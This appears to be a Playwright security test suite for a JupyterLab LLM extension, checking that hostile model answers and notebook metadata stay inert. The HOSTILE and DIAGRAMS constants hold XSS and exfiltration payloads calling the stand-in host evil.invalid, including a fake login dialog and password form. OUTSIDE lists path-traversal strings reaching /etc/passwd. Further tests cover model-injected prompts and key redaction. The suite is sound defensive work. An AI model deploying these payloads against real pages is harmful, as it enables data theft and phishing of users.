import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import type { Page } from '@playwright/test';
import type * as nbformat from '@jupyterlab/nbformat';

import { sha256 } from '../../src/core/hash';
import { RUN_MIME_TYPE } from '../../src/core/vocabulary';
import type { RunRecord } from '../../src/core/values/run-record';
import { refuse, say } from '../fixtures/model-server/answer';
import { expect, MODEL_KEY, test } from './fixtures';
import type { NotebookPage } from './notebook-page';
import {
  askedIn,
  cards,
  codeAnswer,
  printedBy,
  runsIn,
  sourcesOf
} from './prompt-cells';
import { watchExecutions, writeFiles } from './set-up';
import { runRecord } from '../fixtures/run-record';

const EVIL = 'https://evil.invalid';

const FLOW = `flowchart TD\n  A --> B`;

/** Diagrams, which JupyterLab draws from fences of Markdown: each fetches something when it is drawn. */
const DIAGRAMS = [
  `\`\`\`mermaid\n${FLOW}\n  B@{ img: "${EVIL}/shape.png?q=secret", label: "B" }\n\`\`\``,
  `\`\`\`{.mermaid}\n${FLOW}\n  B["<img src='${EVIL}/label.png'>"]\n\`\`\``,
  `~~~Mermaid\n%%{init: {"themeCSS": ".node { background: url(${EVIL}/theme.png) }"}}%%\n${FLOW}\n~~~`,
  `- In a list:\n\n  \`\`\`mermaid\n  flowchart TD\n  A --> B@{ img: "${EVIL}/list.png" }\n  \`\`\``
].join('\n\n');

/** What an attacker would like an answer to do, each in a paragraph of its own. */
const HOSTILE = [
  `![x](${EVIL}/image.png?q=secret)`,
  `![y][ref]\n\n[ref]: ${EVIL}/reference.png`,
  '<script>window.pwned = "script"</script>',
  `<img src="${EVIL}/tag.png" onerror="window.pwned = 'onerror'">`,
  `<svg onload="window.pwned = 'svg'"><image href="${EVIL}/svg.png"/></svg>`,
  '[Follow me](javascript:window.pwned="link")',
  '<a href="javascript:window.pwned=1">Anchor me</a>',
  '<button data-commandlinker-command="pwn:go" data-commandlinker-args="{}">Click me</button>',
  '<div class="jp-Dialog"><div class="jp-Dialog-content">Log in again<button>OK</button></div></div>',
  `<style>@import url(${EVIL}/style.css)</style>`,
  `<iframe src="${EVIL}/frame.html"></iframe>`,
  `<form action="${EVIL}/form"><input name="password"></form>`,
  DIAGRAMS
].join('\n\n');

/** What must not be in a card: whatever loads, runs, looks like JupyterLab's own or can be clicked. */
const ALIVE =
  'script, img, svg, iframe, style, form, input, .jp-Dialog, [onerror], [onload], ' +
  '[data-commandlinker-command], a[href^="javascript" i], .jp-Cellwright-answer button:not(.jp-Cellwright-button)';

/** Notes what an attack would leave: requests to the attacker, and a mark in the page. */
function watchAttacks(page: Page): { requests: string[] } {
  const requests: string[] = [];
  page.on('request', request => {
    if (request.url().startsWith(EVIL)) {
      requests.push(request.url());
    }
  });
  return { requests };
}

/** Adds a command to the page that an attacker may try to call. */
function addTarget(page: Page): Promise<void> {
  return page.evaluate(() => {
    const target = window as unknown as {
      jupyterapp: {
        commands: {
          addCommand(id: string, options: { execute: () => void }): void;
        };
      };
      pwned?: string;
    };
    target.jupyterapp.commands.addCommand('pwn:go', {
      execute: () => {
        target.pwned = 'command';
      }
    });
  });
}

async function expectInert(
  notebook: NotebookPage,
  attacks: { requests: string[] }
): Promise<void> {
  const { page } = notebook;
  await expect(cards(notebook, 0).locator(ALIVE)).toHaveCount(0);
  expect(attacks.requests).toEqual([]);
  expect(
    await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)
  ).toBeUndefined();
}

test('a hostile answer is inert while it streams, at its end and after a reload [H12, H13, H14, S1]', async ({
  openNotebook,
  model,
  page
}) => {
  model.script([
    {
      steps: [
        { text: `${HOSTILE}\n\nHalf of it.\n\n` },
        { gate: true },
        { text: `${HOSTILE}\n\nAll of it.\n` }
      ]
    }
  ]);
  const attacks = watchAttacks(page);
  const notebook = await openNotebook(['%%llm --ask\nAttack me.']);
  await addTarget(page);
  await notebook.pressRun(0, 'Control+Enter');
  await expect(cards(notebook, 0)).toContainText('Half of it.');
  await expectInert(notebook, attacks);
  await notebook.screenshot('security-streaming');
  model.release();
  await notebook.waitUntilIdle('cell-0');
  await expect(cards(notebook, 0)).toContainText('All of it.');
  await expectInert(notebook, attacks);
  await notebook.screenshot('security-done');

  await notebook.save();
  await notebook.reload();
  await addTarget(page);
  await expect(cards(notebook, 0)).toContainText('All of it.');
  for (const text of ['Click me', 'Follow me', 'Anchor me']) {
    await cards(notebook, 0).getByText(text).first().click();
  }
  await expectInert(notebook, attacks);
  await notebook.screenshot('security-reloaded');
});

test('a review, a plan and variants send nothing out either [S1, H14]', async ({
  openNotebook,
  model,
  page
}) => {
  const review = {
    summary: DIAGRAMS,
    findings: [
      {
        id: 1,
        severity: 'high',
        title: 'Bad',
        risk: DIAGRAMS,
        exploit: DIAGRAMS
      }
    ]
  };
  // The texts of a plan have a limit.
  const [diagram] = DIAGRAMS.split('\n\n');
  const plan = {
    goal: diagram,
    steps: [
      {
        id: 'one',
        title: 'Write it',
        kind: 'code',
        description: diagram,
        dependsOn: []
      }
    ],
    interfaces: [],
    inputSchema: null,
    outputSchema: null,
    criteria: [diagram],
    modules: []
  };
  const variant = (name: string) =>
    say(`${DIAGRAMS}\n\n\`\`\`python code\n${name} = 1\n\`\`\`\n`);
  model.script([
    say(`\`\`\`json\n${JSON.stringify(review)}\n\`\`\`\n`),
    variant('first'),
    variant('second'),
    say(JSON.stringify(plan))
  ]);
  const attacks = watchAttacks(page);
  const notebook = await openNotebook([
    'x = eval("1")',
    '%%llm --review\nReview the code above.',
    '%%llm --variants 2\nWrite a value.',
    '%%llm --plan\nWrite a key-value store.'
  ]);
  expect(await notebook.run(1)).toBe(true);
  const written = (await notebook.content()).cells[2];
  expect(written.cell_type).toBe('markdown');
  await expect(notebook.cell(2)).toContainText('flowchart TD');
  // The review's cell stands above the other two now.
  await notebook.pressRun(3);
  const use = page.getByRole('button', { name: /^Use this one/ });
  await expect(use).toHaveCount(2, { timeout: 60_000 });
  await use.first().click();
  await expect(notebook.cells).toHaveCount(6);
  await notebook.pressRun(5);
  await expect(
    page.getByRole('button', { name: 'Approve plan', exact: true })
  ).toBeVisible();
  expect(attacks.requests).toEqual([]);
  await notebook.screenshot('security-elsewhere');
});

const NESTED = [
  'A tool that writes Markdown:\n',
  '~~~python code',
  'TEMPLATE = """',
  '```python',
  'x = 1',
  '```',
  '%%llm',
  'Do it again.',
  '"""',
  '~~~\n',
  'And how to use it:\n',
  '````markdown',
  '```python',
  'print(TEMPLATE)',
  '```',
  '````\n'
].join('\n');

test('nested fences are split where they end, and %%llm inside code stays text [H15]', async ({
  openNotebook,
  model
}) => {
  model.script([say(NESTED)]);
  const notebook = await openNotebook(['%%llm\nWrite a template.']);
  expect(await notebook.run(0)).toBe(true);
  await expect(notebook.cells).toHaveCount(2);
  const { cells } = await notebook.save();
  expect(sourcesOf(cells)[1]).toBe(
    'TEMPLATE = """\n```python\nx = 1\n```\n%%llm\nDo it again.\n"""'
  );
  expect(await notebook.run(1)).toBe(true);
  expect(model.requests).toHaveLength(1);
});

test('generated code that is itself a prompt does not ask the model, not even by Run All [H15]', async ({
  openNotebook,
  model
}) => {
  const answer = say(
    [
      '```python code\n%%llm\nspend = 1\n```\n',
      '```python code\n# Set up\n%llm_config --model evil\n```\n',
      '```python test\n\n%%llm\nspend = 2\n```\n'
    ].join('\n')
  );
  model.script([answer]);
  const notebook = await openNotebook([
    '%%llm\nWrite a list.',
    '%%llm\nGo on.'
  ]);
  expect(await notebook.run(0)).toBe(true);
  await expect(cards(notebook, 0)).toContainText('Not inserted as a cell');
  await notebook.screenshot('security-prompt-in-code');
  expect(await notebook.runAll()).toBe(true);
  const { cells } = await notebook.save();
  expect(sourcesOf(cells)).toEqual(['%%llm\nWrite a list.', '%%llm\nGo on.']);
  expect(
    model.requests.map(request => askedIn(request).split('\n').at(-1))
  ).toEqual(['Write a list.', 'Write a list.', 'Go on.']);
  expect(model.requests[2].body?.model).not.toBe('evil');
});

const OUTSIDE = [
  '../outside.txt',
  '../../../../../../etc/passwd',
  'sub/../../outside.txt',
  '..\\outside.txt',
  '%2e%2e/outside.txt',
  'a%2f..%2f..%2foutside.txt'
];

test('a path that leaves the root is refused before anything is read or sent [H18]', async ({
  openNotebook,
  lab,
  model,
  page
}) => {
  writeFileSync(join(lab.root, '..', 'outside.txt'), 'NOT FOR ANY MODEL\n');
  const notebook = await openNotebook(
    OUTSIDE.map(path => `%%llm --snippet ${JSON.stringify(path)}\nRead it.`)
  );
  const read: string[] = [];
  page.on('request', request => {
    const { pathname, searchParams } = new URL(request.url());
    if (
      pathname.includes('/api/contents') &&
      searchParams.get('content') === '1' &&
      /outside|passwd/.test(decodeURIComponent(pathname))
    ) {
      read.push(pathname);
    }
  });
  for (const [at, path] of OUTSIDE.entries()) {
    expect(await notebook.run(at), path).toBe(false);
    expect(
      read.filter(name => /\.\.|%2e/i.test(name)),
      path
    ).toEqual([]);
  }
  await notebook.screenshot('security-outside');
  expect(model.log).toHaveLength(0);
  expect(JSON.stringify(await notebook.save())).not.toContain('NOT FOR ANY');
});

test("[S5] a link out of the root is not read, and a stranger's line that was never run is asked about", async ({
  openNotebook,
  lab,
  model,
  page
}) => {
  writeFileSync(join(lab.root, '..', 'outside.txt'), 'NOT FOR ANY MODEL\n');
  symlinkSync(join('..', 'outside.txt'), join(lab.root, 'link.txt'));
  writeFiles(lab, { 'private/diary.txt': 'DEAR DIARY\n', 'own.txt': 'MINE\n' });
  const notebook = await openNotebook([
    '%%llm --snippet link.txt\nRead it.',
    '%llm_config --snippet /private/diary.txt',
    '# typed below',
    '%%llm --ask\nSum up.'
  ]);
  expect(await notebook.run(0)).toBe(false);
  expect(model.log).toHaveLength(0);
  expect(JSON.stringify(await notebook.save())).not.toContain('NOT FOR ANY');

  await notebook.cell(2).locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.type('\n%llm_config --snippet own.txt');
  await notebook.pressRun(3);
  const question = page.getByRole('group', {
    name: 'Show these files to the model?'
  });
  await expect(question.getByRole('listitem')).toHaveText([
    '/private/diary.txt is named in cell number 2: %llm_config --snippet /private/diary.txt'
  ]);
  expect(model.log).toHaveLength(0);
  await question.getByRole('button', { name: 'Leave out' }).click();
  await expect(notebook.outputs(3)).toContainText('Left out, as you said');
  await expect.poll(() => model.requests.length).toBe(1);
  const sent = JSON.stringify(model.requests[0].body);
  expect(sent).toContain('MINE');
  expect(sent).not.toContain('DEAR DIARY');
});

const TYPED_KEY = 'sk-proj-Zq3vT8wLm2Xn5Rb7Yd9Kc4Hs6Jf1Gp0Aa2Ee4Uu6Ii8Oo';

test('a key in a request or a file is taken out of what is sent and kept [H28]', async ({
  openNotebook,
  lab,
  model
}) => {
  writeFiles(lab, { 'keys/client.py': `API_KEY = "${TYPED_KEY}"\n` });
  const notebook = await openNotebook(
    [
      `%%llm --snippet client.py\nUse my key ${TYPED_KEY} in it.`,
      '%llm_config --show-history'
    ],
    { path: 'keys/work.ipynb' }
  );
  expect(await notebook.runAll()).toBe(true);
  expect(model.requests).toHaveLength(1);
  expect(JSON.stringify(model.requests[0].body)).not.toContain(TYPED_KEY);

  const { cells } = await notebook.save();
  expect(runsIn(cells[0])[0].record.context?.redactions).toBeGreaterThan(1);
  const kept = cells.map(({ outputs, metadata }) => ({ outputs, metadata }));
  expect(JSON.stringify(kept)).not.toContain(TYPED_KEY);
  expect(readFileSync(lab.log, 'utf8')).not.toContain(TYPED_KEY);
});

test("the server's key is in no notebook, page, log, setting or kernel [B15]", async ({
  openNotebook,
  lab,
  model,
  page
}) => {
  // Some servers repeat the key when they refuse it.
  model.script([
    refuse(401, { message: `Incorrect API key provided: ${MODEL_KEY}.` }),
    say('Fine.')
  ]);
  const bodies: Promise<string>[] = [];
  page.on('response', response => {
    if (/cellwright|settings|contents/.test(response.url())) {
      bodies.push(response.text().catch(() => ''));
    }
  });
  const notebook = await openNotebook([
    '%%llm\nFirst.',
    '%%llm\nSecond.',
    '%llm_config --status',
    "import os\nprint([name for name, value in os.environ.items() if 'sk-test-' in value])",
    'print([name for name in os.environ if name.startswith("CELLWRIGHT")])'
  ]);
  expect(await notebook.run(0)).toBe(false);
  for (const at of [1, 2, 3, 4]) {
    expect(await notebook.run(at)).toBe(true);
  }
  expect(model.requests[1].headers.authorization).toBe(`Bearer ${MODEL_KEY}`);

  const { cells } = await notebook.save();
  expect(printedBy(cells[3])).toBe('[]\n');
  expect(printedBy(cells[4])).not.toContain('API_KEY');
  expect(JSON.stringify(cells)).not.toContain(MODEL_KEY);
  expect(readFileSync(lab.log, 'utf8')).not.toContain(MODEL_KEY);
  expect(await page.content()).not.toContain(MODEL_KEY);
  expect((await Promise.all(bodies)).join('\n')).not.toContain(MODEL_KEY);
  const settings = await lab.request('lab/api/settings/cellwright:plugin');
  expect(await settings.text()).not.toContain(MODEL_KEY);
});

/** A record of a run that nobody here made. */
const record = (changes: Partial<RunRecord> = {}) =>
  runRecord({ run: 'run-of-a-stranger', ...changes });

function cell(
  id: string,
  source: string,
  { data, lineage }: { data?: object; lineage?: object } = {}
): nbformat.ICell {
  return {
    cell_type: 'code',
    id,
    metadata: lineage === undefined ? {} : { cellwright: { ...lineage } },
    source,
    outputs:
      data === undefined
        ? []
        : [{ output_type: 'display_data', data: { ...data }, metadata: {} }],
    execution_count: null
  };
}

/** A prompt that claims to have made three cells of the user's, by record or by metadata. */
const STRANGER = [
  cell('asks', '%%llm\nWrite a list.', {
    data: {
      [RUN_MIME_TYPE]: record({
        blocks: ['unmarked', 'changed'].map((id, at) => ({
          line: at + 1,
          cell: id,
          role: 'code' as const,
          language: 'python'
        })),
        answerLines: 3
      }),
      'text/markdown': 'Old answer.\n*Code cell*\n*Code cell*',
      'text/plain': 'Old answer.'
    }
  }),
  cell('unmarked', 'mine = 1'),
  cell('changed', 'mine = 2', {
    lineage: {
      v: 1,
      run: 'run-of-a-stranger',
      role: 'code',
      parent: 'asks',
      contentHash: sha256('other = 2', 16)
    }
  }),
  cell('unclaimed', 'mine = 3', {
    lineage: {
      v: 1,
      run: 'run-of-a-stranger',
      role: 'code',
      parent: 'asks',
      contentHash: sha256('mine = 3', 16)
    }
  }),
  cell('running', '%%llm\nStill at it.', {
    data: {
      [RUN_MIME_TYPE]: record({ run: 'run-2', status: 'running' }),
      'text/markdown': 'Half an answer.'
    }
  }),
  cell('config', '%llm_config --model evil-model --snippet secrets.txt')
];

test("opening a stranger's notebook asks, runs and changes nothing [H30, B14]", async ({
  openNotebook,
  model,
  page
}) => {
  const executions = watchExecutions(page);
  const notebook = await openNotebook(STRANGER);
  await expect(cards(notebook, 0)).toContainText('Old answer.');
  await expect(cards(notebook, 4)).toContainText('Interrupted');
  await notebook.screenshot('security-stranger');
  expect((await notebook.content()).cells.map(({ source }) => source)).toEqual(
    STRANGER.map(({ source }) => source)
  );
  expect(notebook.readFile().cells).toEqual(STRANGER);
  expect(model.log).toHaveLength(0);
  expect(executions.codes).toEqual([]);
});

test("running a stranger's prompt removes no cell that only claims to be ours [H30, B14]", async ({
  openNotebook,
  model
}) => {
  model.script([say(codeAnswer('new = 1'))]);
  const notebook = await openNotebook(STRANGER);
  expect(await notebook.run(0)).toBe(true);
  const { cells } = await notebook.save();
  const sources = sourcesOf(cells);
  for (const kept of ['mine = 1', 'mine = 2', 'mine = 3', 'new = 1']) {
    expect(sources).toContain(kept);
  }
  expect(model.requests).toHaveLength(1);
});

const BROKEN: readonly object[] = [
  { [RUN_MIME_TYPE]: 'no record', 'text/markdown': HOSTILE },
  { [RUN_MIME_TYPE]: { v: 99 }, 'text/markdown': 'From the future.' },
  {
    [RUN_MIME_TYPE]: record({ answerLines: 1e9, seconds: 1e300 }),
    'text/markdown': HOSTILE
  },
  {
    [RUN_MIME_TYPE]: record({
      status: 'failed',
      model: { asked: HOSTILE, served: HOSTILE },
      notes: [HOSTILE],
      edited: [{ kept: '"><img src=x>', offered: '..', diff: HOSTILE }],
      blocks: [{ line: 0, cell: '"] *', role: 'code', language: HOSTILE }],
      failure: {
        code: 'internal',
        retryable: true,
        message: HOSTILE,
        fix: HOSTILE
      }
    }),
    'text/markdown': `${HOSTILE}\n`
  },
  JSON.parse(
    `{"${RUN_MIME_TYPE}": {"__proto__": {"pwned": 1}, "v": 1}, "text/markdown": ["In ", "pieces."]}`
  ) as object
];

test('broken and hostile records in outputs are shown harmlessly [H30]', async ({
  openNotebook,
  model,
  page,
  pageErrors
}) => {
  const attacks = watchAttacks(page);
  const notebook = await openNotebook([
    ...BROKEN.map((data, at) => cell(`broken-${at}`, '%%llm\nAsk.', { data })),
    'print("alive")'
  ]);
  await addTarget(page);
  await expect(cards(notebook, 0)).toContainText('Click me');
  await expect(cards(notebook, 3)).toContainText('Failed');
  await notebook.screenshot('security-broken-records');
  for (const at of BROKEN.keys()) {
    await expect(notebook.outputs(at).locator(ALIVE)).toHaveCount(0);
  }
  await cards(notebook, 0).getByText('Click me').click();
  await expectInert(notebook, attacks);
  expect(await notebook.run(BROKEN.length)).toBe(true);
  expect(pageErrors).toEqual([]);
  expect(model.log).toHaveLength(0);
});
